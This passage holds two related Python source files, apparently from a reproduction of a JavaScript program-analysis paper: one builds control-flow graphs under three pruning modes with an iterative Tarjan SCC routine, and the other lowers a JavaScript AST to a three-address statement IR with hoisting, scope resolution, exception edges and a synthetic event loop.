termination leaks are out of scope), so a ``throw`` without an enclosing
handler is a dead end in NO_IMPLICIT/FULL views.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.ir.nodes import EdgeKind, FunctionIR, Stmt


class Mode(enum.Enum):
    """Which pruning of the CFG to view; see the module docstring."""

    STRUCTURED = "structured"
    NO_IMPLICIT = "no-implicit"
    FULL = "full"


def statement_successors(
    stmt: Stmt, mode: Mode, throwing: frozenset[int] | None = None
) -> list[int]:
    """Successor statement ids of ``stmt`` under the given view.

    ``throwing`` is the set of statement ids the base analysis determined
    may raise an implicit exception; ``None`` means "assume all implicit
    edges are possible" (the sound default before the analysis has run).
    """
    successors: list[int] = []
    for edge in stmt.edges:
        if edge.kind is EdgeKind.SEQ:
            successors.append(edge.target)
        elif edge.kind is EdgeKind.JUMP:
            if mode is not Mode.STRUCTURED:
                successors.append(edge.target)
        elif edge.kind is EdgeKind.IMPLICIT:
            if mode is Mode.FULL and (throwing is None or stmt.sid in throwing):
                successors.append(edge.target)
        elif edge.kind is EdgeKind.FALLTHROUGH:
            # FALLTHROUGH edges exist only on jump statements (which never
            # have SEQ edges); in the structured view the jump is ignored
            # and control falls through.
            if mode is Mode.STRUCTURED:
                successors.append(edge.target)
    return successors


@dataclass
class FunctionCFG:
    """A materialized intraprocedural CFG for one function under one view."""

    function: FunctionIR
    mode: Mode
    succs: dict[int, list[int]] = field(default_factory=dict)
    preds: dict[int, list[int]] = field(default_factory=dict)

    @property
    def entry(self) -> int:
        return self.function.entry.sid

    @property
    def exit(self) -> int:
        return self.function.exit.sid

    @property
    def nodes(self) -> list[int]:
        return [s.sid for s in self.function.statements]

    def successors(self, sid: int) -> list[int]:
        return self.succs.get(sid, [])

    def predecessors(self, sid: int) -> list[int]:
        return self.preds.get(sid, [])

    def reachable_from_entry(self) -> set[int]:
        seen: set[int] = set()
        stack = [self.entry]
        while stack:
            sid = stack.pop()
            if sid in seen:
                continue
            seen.add(sid)
            stack.extend(self.succs.get(sid, []))
        return seen


def build_function_cfg(
    function: FunctionIR, mode: Mode, throwing: frozenset[int] | None = None
) -> FunctionCFG:
    """Materialize the intraprocedural CFG of ``function`` under ``mode``."""
    cfg = FunctionCFG(function=function, mode=mode)
    for stmt in function.statements:
        cfg.succs[stmt.sid] = statement_successors(stmt, mode, throwing)
        cfg.preds.setdefault(stmt.sid, [])
    for sid, targets in cfg.succs.items():
        for target in targets:
            cfg.preds.setdefault(target, []).append(sid)
    return cfg


def strongly_connected_components(
    nodes: list[int], successors: dict[int, list[int]]
) -> list[list[int]]:
    """Tarjan's algorithm, iterative (IR graphs can be deep).

    Returns SCCs in reverse topological order. Used to decide which
    statements sit inside a CFG cycle (the ``amp`` annotation of
    Section 3.1).
    """
    index_of: dict[int, int] = {}
    lowlink: dict[int, int] = {}
    on_stack: set[int] = set()
    stack: list[int] = []
    result: list[list[int]] = []
    counter = 0

    for root in nodes:
        if root in index_of:
            continue
        work: list[tuple[int, int]] = [(root, 0)]
        while work:
            node, child_index = work.pop()
            if child_index == 0:
                index_of[node] = counter
                lowlink[node] = counter
                counter += 1
                stack.append(node)
                on_stack.add(node)
            advanced = False
            children = successors.get(node, [])
            for position in range(child_index, len(children)):
                child = children[position]
                if child not in index_of:
                    work.append((node, position + 1))
                    work.append((child, 0))
                    advanced = True
                    break
                if child in on_stack:
                    lowlink[node] = min(lowlink[node], index_of[child])
            if advanced:
                continue
            if work:
                parent = work[-1][0]
                lowlink[parent] = min(lowlink[parent], lowlink[node])
            if lowlink[node] == index_of[node]:
                component: list[int] = []
                while True:
                    member = stack.pop()
                    on_stack.discard(member)
                    component.append(member)
                    if member == node:
                        break
                result.append(component)
    return result


def nodes_in_cycles(
    nodes: list[int], successors: dict[int, list[int]]
) -> set[int]:
    """Nodes contained in some cycle: members of a non-trivial SCC, or
    nodes with a self-loop."""
    cyclic: set[int] = set()
    for component in strongly_connected_components(nodes, successors):
        if len(component) > 1:
            cyclic.update(component)
        else:
            only = component[0]
            if only in successors.get(only, []):
                cyclic.add(only)
    return cyclic
