"""Lowering from the JavaScript AST to the statement IR.

The lowering performs, in one pass per function:

- **hoisting** of ``var`` and function declarations (ES5 semantics:
  function-scoped variables, declarations usable before their textual
  position),
- **lexical resolution** of every identifier to a ``(scope, name)`` pair
  (top-level ``var`` declarations are globals, as in real JS),
- **flattening** of expressions into three-address statements over atoms,
  with fresh temporaries per function,
- **explicit control flow**: structured edges for branches and loops,
  JUMP edges for break/continue/return/throw, IMPLICIT edges from
  potentially-throwing statements to the innermost enclosing catch
  handler, and FALLTHROUGH edges recording the structured successor of
  each jump (used by the pruned CFGs of the CDG construction),
- the synthetic **event loop** statement appended after top-level code,
  which the abstract interpreter treats as a non-deterministic dispatch
  over all registered event handlers (Section 6.1 of the paper).

Deliberate simplifications (documented in DESIGN.md): ``finally`` blocks
are duplicated onto the normal and exceptional paths; exceptions propagate
to handlers within the same function only (an exception escaping a
function is treated as termination, consistent with the paper omitting
uncaught-exception edges); the ``arguments`` object is not modeled.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.js import ast
from repro.js.errors import SourcePosition, UnsupportedSyntaxError
from repro.ir.nodes import (
    GLOBAL_SCOPE,
    UNDEFINED,
    AllocStmt,
    AssignStmt,
    Atom,
    AtomRhs,
    BinOpRhs,
    BranchStmt,
    CallStmt,
    CatchStmt,
    ClosureStmt,
    Const,
    ConstructStmt,
    DeletePropStmt,
    EdgeKind,
    EntryStmt,
    EventLoopStmt,
    ExitStmt,
    ForInNextStmt,
    FunctionIR,
    LoadPropStmt,
    NopStmt,
    ProgramIR,
    ReturnStmt,
    Rhs,
    Stmt,
    StorePropStmt,
    ThrowStmt,
    UnOpRhs,
    Var,
)


def lower(program: ast.Program, event_loop: bool = True) -> ProgramIR:
    """Lower a parsed program to IR.

    ``event_loop`` controls whether the synthetic addon event loop is
    appended after the top-level code (on by default, matching the paper's
    treatment of addons; turn it off for plain-script analyses and unit
    tests).
    """
    return Lowerer().lower_program(program, event_loop=event_loop)


@dataclass
class _Pending:
    """An edge waiting for its target: ``stmt`` will get an edge of
    ``kind`` to the next statement placed on the current path."""

    stmt: Stmt
    kind: EdgeKind


@dataclass
class _LoopContext:
    """Break/continue bookkeeping for one enclosing loop or switch."""

    label: str | None
    breaks: list[Stmt] = field(default_factory=list)
    continues: list[Stmt] | None = None  # None => continue not allowed (switch)


class Lowerer:
    """Shared state across all functions of one program."""

    def __init__(self) -> None:
        self.functions: dict[int, FunctionIR] = {}
        self.stmts: dict[int, Stmt] = {}
        self.owner: dict[int, int] = {}
        self.global_names: set[str] = set()
        self._next_sid = 0
        self._next_fid = 0

    def lower_program(self, program: ast.Program, event_loop: bool) -> ProgramIR:
        main = self._new_function("<main>", params=[], parent=None)
        body = _FunctionLowerer(self, main, chain=[main], top_level=True)
        body.lower_body(program.body, position=program.position)
        if event_loop:
            loop = body.emit(EventLoopStmt(position=program.position))
            loop.add_edge(loop.sid, EdgeKind.SEQ)
        body.finish(position=program.position)
        return ProgramIR(
            functions=self.functions,
            stmts=self.stmts,
            owner=self.owner,
            global_names=self.global_names,
        )

    # ------------------------------------------------------------------
    # Allocation helpers

    def _new_function(
        self, name: str, params: list[str], parent: int | None
    ) -> FunctionIR:
        fid = self._next_fid
        self._next_fid += 1
        function = FunctionIR(
            fid=fid, name=name, params=list(params),
            locals=set(params), parent=parent,
        )
        self.functions[fid] = function
        return function

    def new_sid(self) -> int:
        sid = self._next_sid
        self._next_sid += 1
        return sid

    def register(self, stmt: Stmt, function: FunctionIR) -> Stmt:
        stmt.sid = self.new_sid()
        self.stmts[stmt.sid] = stmt
        self.owner[stmt.sid] = function.fid
        function.statements.append(stmt)
        return stmt


class _FunctionLowerer:
    """Lowers the body of a single function."""

    def __init__(
        self,
        lowerer: Lowerer,
        function: FunctionIR,
        chain: list[FunctionIR],
        top_level: bool = False,
    ):
        self.lowerer = lowerer
        self.function = function
        self.chain = chain  # outermost .. innermost (== function)
        self.top_level = top_level
        self.pending: list[_Pending] = []
        self.handlers: list[int] = []  # innermost catch handler sid last
        self.loops: list[_LoopContext] = []
        self.renames: list[dict[str, str]] = []  # catch-param renames
        self._temp_counter = 0
        self._returns: list[Stmt] = []

    # ------------------------------------------------------------------
    # Emission machinery

    def emit(self, stmt: Stmt) -> Stmt:
        """Place ``stmt`` on the current path: register it, connect every
        pending edge to it, and make it the new sole pending source."""
        self.lowerer.register(stmt, self.function)
        for pending in self.pending:
            pending.stmt.add_edge(stmt.sid, pending.kind)
        self.pending = [_Pending(stmt, EdgeKind.SEQ)]
        if stmt.may_throw_implicitly and self.handlers:
            stmt.add_edge(self.handlers[-1], EdgeKind.IMPLICIT)
        return stmt

    def _terminate_path(self, stmt: Stmt) -> None:
        """After a jump statement: the structured successor (used by the
        pruned CFGs) is whatever comes next lexically."""
        self.pending = [_Pending(stmt, EdgeKind.FALLTHROUGH)]

    def temp(self) -> Var:
        name = f"%t{self._temp_counter}"
        self._temp_counter += 1
        self.function.locals.add(name)
        return Var(name, self.function.fid)

    # ------------------------------------------------------------------
    # Name resolution

    def resolve(self, name: str) -> Var:
        for renames in reversed(self.renames):
            if name in renames:
                return Var(renames[name], self.function.fid)
        for scope in reversed(self.chain):
            if name in scope.locals:
                return Var(name, scope.fid)
        self.lowerer.global_names.add(name)
        return Var(name, GLOBAL_SCOPE)

    def declare(self, name: str) -> Var:
        """Resolve a ``var``-declared name: function-local, except at the
        top level where ``var`` creates a global (real JS semantics)."""
        if self.top_level:
            self.lowerer.global_names.add(name)
            return Var(name, GLOBAL_SCOPE)
        self.function.locals.add(name)
        return Var(name, self.function.fid)

    # ------------------------------------------------------------------
    # Function body orchestration

    def lower_body(
        self,
        statements: list[ast.Statement],
        position: SourcePosition,
        self_name: str | None = None,
    ) -> None:
        # Synthetic markers get line 0 so line-level projections of
        # analysis results never attribute them to source lines.
        entry = EntryStmt(function_id=self.function.fid, position=SourcePosition(0, 0))
        self.lowerer.register(entry, self.function)
        self.pending = [_Pending(entry, EdgeKind.SEQ)]
        if self_name is not None:
            # Named function expression: bind the function's own name
            # before the body runs, so recursion through the name works.
            self.emit(
                ClosureStmt(
                    target=Var(self_name, self.function.fid),
                    function_id=self.function.fid,
                    position=position,
                )
            )
        self._hoist(statements)
        for statement in statements:
            self.lower_statement(statement)

    def finish(self, position: SourcePosition) -> Stmt:
        exit_stmt = ExitStmt(
            function_id=self.function.fid, position=SourcePosition(0, 0)
        )
        self.lowerer.register(exit_stmt, self.function)
        for pending in self.pending:
            pending.stmt.add_edge(exit_stmt.sid, pending.kind)
        for stmt in self._returns:
            stmt.add_edge(exit_stmt.sid, EdgeKind.JUMP)
        self.pending = []
        return exit_stmt

    def _hoist(self, statements: list[ast.Statement]) -> None:
        """ES5 hoisting: declare all ``var`` names, then emit closure
        creation for every function declaration (usable before its textual
        position)."""
        var_names, function_decls = _collect_declarations(statements)
        for name in var_names:
            self.declare(name)
        for decl in function_decls:
            target = self.declare(decl.name)
            fid = self._lower_function(decl.name, decl.params, decl.body)
            self.emit(
                ClosureStmt(target=target, function_id=fid, position=decl.position)
            )

    def _lower_function(
        self, name: str | None, params: list[str], body: ast.BlockStatement
    ) -> int:
        function = self.lowerer._new_function(
            name or "<anonymous>", params, parent=self.function.fid
        )
        function.locals.add("this")
        if name is not None:
            # A named function expression can refer to itself by name.
            function.locals.add(name)
        sub = _FunctionLowerer(self.lowerer, function, chain=self.chain + [function])
        sub.lower_body(body.body, position=body.position, self_name=name)
        sub.finish(position=body.position)
        return function.fid

    # ------------------------------------------------------------------
    # Statements

    def lower_statement(self, node: ast.Statement) -> None:
        method = getattr(self, f"_stmt_{type(node).__name__}", None)
        if method is None:
            raise UnsupportedSyntaxError(
                f"cannot lower {node.kind}", node.position
            )
        method(node)

    def _stmt_ExpressionStatement(self, node: ast.ExpressionStatement) -> None:
        self.lower_expression(node.expression)

    def _stmt_EmptyStatement(self, node: ast.EmptyStatement) -> None:
        pass

    def _stmt_DebuggerStatement(self, node: ast.DebuggerStatement) -> None:
        pass

    def _stmt_BlockStatement(self, node: ast.BlockStatement) -> None:
        for statement in node.body:
            self.lower_statement(statement)

    def _stmt_FunctionDeclaration(self, node: ast.FunctionDeclaration) -> None:
        pass  # handled during hoisting

    def _stmt_VariableDeclaration(self, node: ast.VariableDeclaration) -> None:
        for declarator in node.declarations:
            if declarator.init is None:
                continue
            value = self.lower_expression(declarator.init)
            target = self.resolve(declarator.name)
            self.emit(
                AssignStmt(
                    target=target, rhs=AtomRhs(value), position=declarator.position
                )
            )

    def _stmt_IfStatement(self, node: ast.IfStatement) -> None:
        condition = self.lower_expression(node.test)
        branch = self.emit(BranchStmt(condition=condition, position=node.position))
        self.pending = [_Pending(branch, EdgeKind.SEQ)]
        self.lower_statement(node.consequent)
        after_true = self.pending
        self.pending = [_Pending(branch, EdgeKind.SEQ)]
        if node.alternate is not None:
            self.lower_statement(node.alternate)
        self.pending = after_true + self.pending

    def _stmt_WhileStatement(self, node: ast.WhileStatement) -> None:
        header = self.emit(NopStmt(label="while", position=node.position))
        condition = self.lower_expression(node.test)
        branch = self.emit(BranchStmt(condition=condition, position=node.test.position))
        context = _LoopContext(label=self._pending_label(), continues=[])
        self.loops.append(context)
        self.pending = [_Pending(branch, EdgeKind.SEQ)]
        self.lower_statement(node.body)
        self._close_loop(context, header, branch, node.position)

    def _stmt_DoWhileStatement(self, node: ast.DoWhileStatement) -> None:
        header = self.emit(NopStmt(label="do", position=node.position))
        context = _LoopContext(label=self._pending_label(), continues=[])
        self.loops.append(context)
        self.lower_statement(node.body)
        # continue in a do-while jumps to the condition check.
        condition_start = self.emit(NopStmt(label="do-cond", position=node.test.position))
        for stmt in context.continues or []:
            stmt.add_edge(condition_start.sid, EdgeKind.JUMP)
        context.continues = []
        condition = self.lower_expression(node.test)
        branch = self.emit(BranchStmt(condition=condition, position=node.test.position))
        branch.add_edge(header.sid, EdgeKind.SEQ)
        self.loops.pop()
        exit_nop = self.emit(NopStmt(label="do-exit", position=node.position))
        for stmt in context.breaks:
            stmt.add_edge(exit_nop.sid, EdgeKind.JUMP)

    def _stmt_ForStatement(self, node: ast.ForStatement) -> None:
        if isinstance(node.init, ast.VariableDeclaration):
            self._stmt_VariableDeclaration(node.init)
        elif isinstance(node.init, ast.Expression):
            self.lower_expression(node.init)
        header = self.emit(NopStmt(label="for", position=node.position))
        branch: Stmt | None = None
        if node.test is not None:
            condition = self.lower_expression(node.test)
            branch = self.emit(
                BranchStmt(condition=condition, position=node.test.position)
            )
            self.pending = [_Pending(branch, EdgeKind.SEQ)]
        context = _LoopContext(label=self._pending_label(), continues=[])
        self.loops.append(context)
        self.lower_statement(node.body)
        update_start = self.emit(NopStmt(label="for-update", position=node.position))
        for stmt in context.continues or []:
            stmt.add_edge(update_start.sid, EdgeKind.JUMP)
        if node.update is not None:
            self.lower_expression(node.update)
        for pending in self.pending:
            pending.stmt.add_edge(header.sid, pending.kind)
        self.loops.pop()
        if branch is not None:
            self.pending = [_Pending(branch, EdgeKind.SEQ)]
        else:
            self.pending = []
        exit_nop = self.emit(NopStmt(label="for-exit", position=node.position))
        for stmt in context.breaks:
            stmt.add_edge(exit_nop.sid, EdgeKind.JUMP)

    def _close_loop(
        self,
        context: _LoopContext,
        header: Stmt,
        branch: Stmt,
        position: SourcePosition,
    ) -> None:
        """Wire the back edge, continues, breaks and exit of a while loop."""
        for pending in self.pending:
            pending.stmt.add_edge(header.sid, pending.kind)
        for stmt in context.continues or []:
            stmt.add_edge(header.sid, EdgeKind.JUMP)
        self.loops.pop()
        self.pending = [_Pending(branch, EdgeKind.SEQ)]
        exit_nop = self.emit(NopStmt(label="loop-exit", position=position))
        for stmt in context.breaks:
            stmt.add_edge(exit_nop.sid, EdgeKind.JUMP)

    def _stmt_ForInStatement(self, node: ast.ForInStatement) -> None:
        obj = self.lower_expression(node.object)
        if node.declares:
            target = self.declare(node.variable)
        else:
            target = self.resolve(node.variable)
        driver = self.emit(
            ForInNextStmt(target=target, obj=obj, position=node.position)
        )
        context = _LoopContext(label=self._pending_label(), continues=[])
        self.loops.append(context)
        self.pending = [_Pending(driver, EdgeKind.SEQ)]
        self.lower_statement(node.body)
        for pending in self.pending:
            pending.stmt.add_edge(driver.sid, pending.kind)
        for stmt in context.continues or []:
            stmt.add_edge(driver.sid, EdgeKind.JUMP)
        self.loops.pop()
        self.pending = [_Pending(driver, EdgeKind.SEQ)]
        exit_nop = self.emit(NopStmt(label="forin-exit", position=node.position))
        for stmt in context.breaks:
            stmt.add_edge(exit_nop.sid, EdgeKind.JUMP)

    _label_for_next_loop: str | None = None

    def _pending_label(self) -> str | None:
        label = self._label_for_next_loop
        self._label_for_next_loop = None
        return label

    def _stmt_LabeledStatement(self, node: ast.LabeledStatement) -> None:
        if isinstance(
            node.body,
            (ast.WhileStatement, ast.DoWhileStatement, ast.ForStatement,
             ast.ForInStatement),
        ):
            self._label_for_next_loop = node.label
            self.lower_statement(node.body)
            return
        # Label on a non-loop statement: only `break label` targets it.
        context = _LoopContext(label=node.label, continues=None)
        self.loops.append(context)
        self.lower_statement(node.body)
        self.loops.pop()
        exit_nop = self.emit(NopStmt(label=f"label-{node.label}", position=node.position))
        for stmt in context.breaks:
            stmt.add_edge(exit_nop.sid, EdgeKind.JUMP)

    def _find_loop(self, label: str | None, for_continue: bool) -> _LoopContext:
        for context in reversed(self.loops):
            if for_continue and context.continues is None:
                continue
            if label is None or context.label == label:
                return context
        kind = "continue" if for_continue else "break"
        raise UnsupportedSyntaxError(f"{kind} outside of a matching loop")

    def _stmt_BreakStatement(self, node: ast.BreakStatement) -> None:
        context = self._find_loop(node.label, for_continue=False)
        stmt = self.emit(NopStmt(label="break", position=node.position))
        context.breaks.append(stmt)
        self._terminate_path(stmt)

    def _stmt_ContinueStatement(self, node: ast.ContinueStatement) -> None:
        context = self._find_loop(node.label, for_continue=True)
        stmt = self.emit(NopStmt(label="continue", position=node.position))
        assert context.continues is not None
        context.continues.append(stmt)
        self._terminate_path(stmt)

    def _stmt_ReturnStatement(self, node: ast.ReturnStatement) -> None:
        value = (
            self.lower_expression(node.argument)
            if node.argument is not None
            else Const(UNDEFINED)
        )
        stmt = self.emit(ReturnStmt(value=value, position=node.position))
        # The JUMP edge to the function exit is wired in finish().
        self._returns.append(stmt)
        self._terminate_path(stmt)

    def _stmt_ThrowStatement(self, node: ast.ThrowStatement) -> None:
        value = self.lower_expression(node.argument)
        stmt = self.emit(ThrowStmt(value=value, position=node.position))
        if self.handlers:
            stmt.add_edge(self.handlers[-1], EdgeKind.JUMP)
        self._terminate_path(stmt)

    def _stmt_TryStatement(self, node: ast.TryStatement) -> None:
        if node.handler is not None:
            self._lower_try_catch(node.block, node.handler)
        else:
            self._lower_try_body_with_handler(node.block, handler_sid=None)
        if node.finalizer is not None:
            # Normal-path copy of the finalizer. (The exceptional-path copy
            # of an ES5 finally is approximated: exceptions reaching a
            # finally-only try propagate to the outer handler directly.)
            self.lower_statement(node.finalizer)

    def _lower_try_catch(self, block: ast.BlockStatement, handler: ast.CatchClause) -> None:
        # Pre-allocate the catch statement so throws inside the block can
        # target it; it is appended to the statement list after the block
        # to keep lexical order roughly intact.
        renamed = f"{handler.param}#catch{self.lowerer._next_sid}"
        self.function.locals.add(renamed)
        catch_stmt = CatchStmt(
            target=Var(renamed, self.function.fid), position=handler.position
        )
        self.lowerer.register(catch_stmt, self.function)

        self.handlers.append(catch_stmt.sid)
        self.lower_statement(block)
        self.handlers.pop()
        normal_exit = self.pending

        self.pending = [_Pending(catch_stmt, EdgeKind.SEQ)]
        self.renames.append({handler.param: renamed})
        self.lower_statement(handler.body)
        self.renames.pop()
        self.pending = normal_exit + self.pending
        self.emit(NopStmt(label="try-join", position=block.position))

    def _lower_try_body_with_handler(
        self, block: ast.BlockStatement, handler_sid: int | None
    ) -> None:
        if handler_sid is not None:
            self.handlers.append(handler_sid)
            self.lower_statement(block)
            self.handlers.pop()
        else:
            self.lower_statement(block)

    def _stmt_SwitchStatement(self, node: ast.SwitchStatement) -> None:
        discriminant = self.lower_expression(node.discriminant)
        context = _LoopContext(label=self._pending_label(), continues=None)
        self.loops.append(context)

        # First the comparison chain, collecting a pending branch edge per
        # case; case bodies are emitted afterwards, in order, with
        # fallthrough between them.
        case_entries: list[NopStmt] = []
        default_index: int | None = None
        for index, case in enumerate(node.cases):
            entry = NopStmt(label=f"case-{index}", position=case.position)
            case_entries.append(entry)
            if case.test is None:
                default_index = index

        pending_into_case: list[list[_Pending]] = [[] for _ in node.cases]
        for index, case in enumerate(node.cases):
            if case.test is None:
                continue
            test_value = self.lower_expression(case.test)
            compare = self.temp()
            self.emit(
                AssignStmt(
                    target=compare,
                    rhs=BinOpRhs("===", discriminant, test_value),
                    position=case.position,
                )
            )
            # The no-match edge (to the next comparison) is wired first,
            # the case-entry edge second: polarity is falsy-first.
            branch = self.emit(
                BranchStmt(condition=Var(compare.name, compare.scope),
                           truthy_first=False, position=case.position)
            )
            pending_into_case[index].append(_Pending(branch, EdgeKind.SEQ))
            self.pending = [_Pending(branch, EdgeKind.SEQ)]
        # No case matched: go to default if present, else past the switch.
        no_match = self.pending
        if default_index is not None:
            pending_into_case[default_index].extend(no_match)
            no_match = []

        fallthrough: list[_Pending] = []
        for index, case in enumerate(node.cases):
            entry = case_entries[index]
            self.pending = pending_into_case[index] + fallthrough
            self.lowerer.register(entry, self.function)
            for pending in self.pending:
                pending.stmt.add_edge(entry.sid, pending.kind)
            self.pending = [_Pending(entry, EdgeKind.SEQ)]
            for statement in case.body:
                self.lower_statement(statement)
            fallthrough = self.pending

        self.loops.pop()
        self.pending = fallthrough + no_match
        exit_nop = self.emit(NopStmt(label="switch-exit", position=node.position))
        for stmt in context.breaks:
            stmt.add_edge(exit_nop.sid, EdgeKind.JUMP)

    # ------------------------------------------------------------------
    # Expressions

    def lower_expression(self, node: ast.Expression) -> Atom:
        method = getattr(self, f"_expr_{type(node).__name__}", None)
        if method is None:
            raise UnsupportedSyntaxError(
                f"cannot lower {node.kind}", node.position
            )
        return method(node)

    def _expr_NumberLiteral(self, node: ast.NumberLiteral) -> Atom:
        return Const(node.value)

    def _expr_StringLiteral(self, node: ast.StringLiteral) -> Atom:
        return Const(node.value)

    def _expr_BooleanLiteral(self, node: ast.BooleanLiteral) -> Atom:
        return Const(node.value)

    def _expr_NullLiteral(self, node: ast.NullLiteral) -> Atom:
        return Const(None)

    def _expr_UndefinedLiteral(self, node: ast.UndefinedLiteral) -> Atom:
        return Const(UNDEFINED)

    def _expr_RegexLiteral(self, node: ast.RegexLiteral) -> Atom:
        target = self.temp()
        self.emit(AllocStmt(target=target, kind="regex", position=node.position))
        return target

    def _expr_Identifier(self, node: ast.Identifier) -> Atom:
        return self.resolve(node.name)

    def _expr_ThisExpression(self, node: ast.ThisExpression) -> Atom:
        if self.top_level:
            return self.resolve("this")  # global `this`, bound by the env
        return Var("this", self.function.fid)

    def _expr_ArrayLiteral(self, node: ast.ArrayLiteral) -> Atom:
        target = self.temp()
        self.emit(AllocStmt(target=target, kind="array", position=node.position))
        for index, element in enumerate(node.elements):
            value = self.lower_expression(element)
            self.emit(
                StorePropStmt(
                    obj=target, prop=Const(str(index)), value=value,
                    position=element.position,
                )
            )
        self.emit(
            StorePropStmt(
                obj=target, prop=Const("length"),
                value=Const(float(len(node.elements))), position=node.position,
            )
        )
        return target

    def _expr_ObjectLiteral(self, node: ast.ObjectLiteral) -> Atom:
        target = self.temp()
        self.emit(AllocStmt(target=target, kind="object", position=node.position))
        for prop in node.properties:
            value = self.lower_expression(prop.value)
            self.emit(
                StorePropStmt(
                    obj=target, prop=Const(prop.key), value=value,
                    position=prop.position,
                )
            )
        return target

    def _expr_FunctionExpression(self, node: ast.FunctionExpression) -> Atom:
        fid = self._lower_function(node.name, node.params, node.body)
        target = self.temp()
        self.emit(ClosureStmt(target=target, function_id=fid, position=node.position))
        return target

    def _expr_MemberExpression(self, node: ast.MemberExpression) -> Atom:
        obj = self.lower_expression(node.object)
        prop = self._property_atom(node)
        target = self.temp()
        self.emit(
            LoadPropStmt(target=target, obj=obj, prop=prop, position=node.position)
        )
        return target

    def _property_atom(self, node: ast.MemberExpression) -> Atom:
        if node.computed:
            return self.lower_expression(node.property)
        assert isinstance(node.property, ast.StringLiteral)
        return Const(node.property.value)

    def _expr_CallExpression(self, node: ast.CallExpression) -> Atom:
        this_atom: Atom | None = None
        if isinstance(node.callee, ast.MemberExpression):
            this_atom = self.lower_expression(node.callee.object)
            prop = self._property_atom(node.callee)
            callee = self.temp()
            self.emit(
                LoadPropStmt(
                    target=callee, obj=this_atom, prop=prop,
                    position=node.callee.position,
                )
            )
            callee_atom: Atom = callee
        else:
            callee_atom = self.lower_expression(node.callee)
        args = [self.lower_expression(argument) for argument in node.arguments]
        target = self.temp()
        self.emit(
            CallStmt(
                target=target, callee=callee_atom, this=this_atom, args=args,
                position=node.position,
            )
        )
        return target

    def _expr_NewExpression(self, node: ast.NewExpression) -> Atom:
        callee = self.lower_expression(node.callee)
        args = [self.lower_expression(argument) for argument in node.arguments]
        target = self.temp()
        self.emit(
            ConstructStmt(
                target=target, callee=callee, args=args, position=node.position
            )
        )
        return target

    def _expr_UnaryExpression(self, node: ast.UnaryExpression) -> Atom:
        if node.operator == "delete":
            return self._lower_delete(node)
        operand = self.lower_expression(node.argument)
        target = self.temp()
        self.emit(
            AssignStmt(
                target=target, rhs=UnOpRhs(node.operator, operand),
                position=node.position,
            )
        )
        return target

    def _lower_delete(self, node: ast.UnaryExpression) -> Atom:
        if isinstance(node.argument, ast.MemberExpression):
            obj = self.lower_expression(node.argument.object)
            prop = self._property_atom(node.argument)
            self.emit(DeletePropStmt(obj=obj, prop=prop, position=node.position))
        return Const(True)

    def _expr_UpdateExpression(self, node: ast.UpdateExpression) -> Atom:
        operator = "+" if node.operator == "++" else "-"
        old = self._read_reference(node.argument)
        new = self.temp()
        self.emit(
            AssignStmt(
                target=new, rhs=BinOpRhs(operator, old, Const(1.0)),
                position=node.position,
            )
        )
        self._write_reference(node.argument, new, node.position)
        return old if not node.prefix else new

    def _read_reference(self, node: ast.Expression) -> Atom:
        """Read an lvalue into an atom, leaving it usable for a later write."""
        if isinstance(node, ast.Identifier):
            source = self.resolve(node.name)
            copy = self.temp()
            self.emit(
                AssignStmt(target=copy, rhs=AtomRhs(source), position=node.position)
            )
            return copy
        assert isinstance(node, ast.MemberExpression)
        return self.lower_expression(node)

    def _write_reference(
        self, node: ast.Expression, value: Atom, position: SourcePosition
    ) -> None:
        if isinstance(node, ast.Identifier):
            self.emit(
                AssignStmt(
                    target=self.resolve(node.name), rhs=AtomRhs(value),
                    position=position,
                )
            )
            return
        assert isinstance(node, ast.MemberExpression)
        obj = self.lower_expression(node.object)
        prop = self._property_atom(node)
        self.emit(StorePropStmt(obj=obj, prop=prop, value=value, position=position))

    def _expr_BinaryExpression(self, node: ast.BinaryExpression) -> Atom:
        left = self.lower_expression(node.left)
        right = self.lower_expression(node.right)
        target = self.temp()
        self.emit(
            AssignStmt(
                target=target, rhs=BinOpRhs(node.operator, left, right),
                position=node.position,
            )
        )
        return target

    def _expr_LogicalExpression(self, node: ast.LogicalExpression) -> Atom:
        """Short-circuit: lower to an explicit branch, so the control
        dependence the paper's example relies on (e.g. the ``&&`` in the
        while condition of Figure 1) is visible in the CDG."""
        result = self.temp()
        left = self.lower_expression(node.left)
        self.emit(
            AssignStmt(target=result, rhs=AtomRhs(left), position=node.position)
        )
        branch = self.emit(
            BranchStmt(
                condition=left,
                truthy_first=(node.operator == "&&"),
                position=node.position,
            )
        )
        self.pending = [_Pending(branch, EdgeKind.SEQ)]
        # For `&&` the right side (the first arm) evaluates when the left
        # is truthy; for `||` when it is falsy — recorded in truthy_first.
        right = self.lower_expression(node.right)
        self.emit(
            AssignStmt(target=result, rhs=AtomRhs(right), position=node.right.position)
        )
        evaluated = self.pending
        self.pending = [_Pending(branch, EdgeKind.SEQ)] + evaluated
        self.emit(NopStmt(label=f"logical-{node.operator}", position=node.position))
        return result

    def _expr_ConditionalExpression(self, node: ast.ConditionalExpression) -> Atom:
        result = self.temp()
        condition = self.lower_expression(node.test)
        branch = self.emit(BranchStmt(condition=condition, position=node.position))
        self.pending = [_Pending(branch, EdgeKind.SEQ)]
        consequent = self.lower_expression(node.consequent)
        self.emit(
            AssignStmt(
                target=result, rhs=AtomRhs(consequent),
                position=node.consequent.position,
            )
        )
        after_true = self.pending
        self.pending = [_Pending(branch, EdgeKind.SEQ)]
        alternate = self.lower_expression(node.alternate)
        self.emit(
            AssignStmt(
                target=result, rhs=AtomRhs(alternate),
                position=node.alternate.position,
            )
        )
        self.pending = after_true + self.pending
        self.emit(NopStmt(label="ternary-join", position=node.position))
        return result

    def _expr_AssignmentExpression(self, node: ast.AssignmentExpression) -> Atom:
        if node.operator == "=":
            value = self.lower_expression(node.value)
            self._write_reference(node.target, value, node.position)
            return value
        # Compound assignment: read-modify-write.
        operator = node.operator[:-1]
        old = self._read_reference(node.target)
        rhs_value = self.lower_expression(node.value)
        new = self.temp()
        self.emit(
            AssignStmt(
                target=new, rhs=BinOpRhs(operator, old, rhs_value),
                position=node.position,
            )
        )
        self._write_reference(node.target, new, node.position)
        return new

    def _expr_SequenceExpression(self, node: ast.SequenceExpression) -> Atom:
        value: Atom = Const(UNDEFINED)
        for expression in node.expressions:
            value = self.lower_expression(expression)
        return value


def _collect_declarations(
    statements: list[ast.Statement],
) -> tuple[list[str], list[ast.FunctionDeclaration]]:
    """Collect hoisted ``var`` names and function declarations, without
    descending into nested functions."""
    var_names: list[str] = []
    seen: set[str] = set()
